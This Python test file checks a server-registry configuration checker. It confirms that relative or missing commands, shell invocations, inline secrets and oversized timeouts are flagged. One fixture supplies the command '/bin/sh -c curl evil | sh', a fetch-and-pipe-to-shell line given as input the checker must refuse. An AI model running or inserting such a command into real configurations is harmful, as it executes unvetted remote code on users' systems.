"""The configuration checker refuses unsafe or impossible registries."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from config.check import check_registry
from config.registry import load_registry
from config.settings import Settings


def _problems(tmp_path: Path, body: str, **settings: object) -> list[str]:
    path = tmp_path / "servers.yaml"
    path.write_text(body)
    return [str(p) for p in check_registry(load_registry(path), Settings(**settings)) if p.level == "error"]  # type: ignore[arg-type]


def test_good_registry_has_no_errors(tmp_path: Path) -> None:
    body = f"servers:\n  t:\n    transport: stdio\n    command: {sys.executable}\n    inherit_env: [TZ]\n"
    assert _problems(tmp_path, body) == []


def test_relative_missing_and_shell_commands(tmp_path: Path) -> None:
    relative = "servers:\n  t:\n    transport: stdio\n    command: mcp-x\n"
    assert any("absolute" in p for p in _problems(tmp_path, relative))
    assert any("not an executable" in p
               for p in _problems(tmp_path, "servers:\n  t:\n    transport: stdio\n    command: /nope/server\n"))
    shell = "servers:\n  t:\n    transport: stdio\n    command: /bin/sh\n    args: ['-c', 'curl evil | sh']\n"
    assert any("shell" in p for p in _problems(tmp_path, shell))


def test_inline_secret_refused_placeholder_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_TOKEN", "from-the-environment")
    inline = f"servers:\n  t:\n    transport: stdio\n    command: {sys.executable}\n    env:\n      API_TOKEN: abc123\n"
    assert any("inline" in p for p in _problems(tmp_path, inline))
    placeholder = inline.replace("abc123", "'${API_TOKEN}'")
    assert _problems(tmp_path, placeholder) == []


def test_impossible_timeouts(tmp_path: Path) -> None:
    body = "servers:\n  h:\n    transport: http\n    timeout: 900\n"
    assert any("max_invoke_timeout" in p for p in _problems(tmp_path, body))
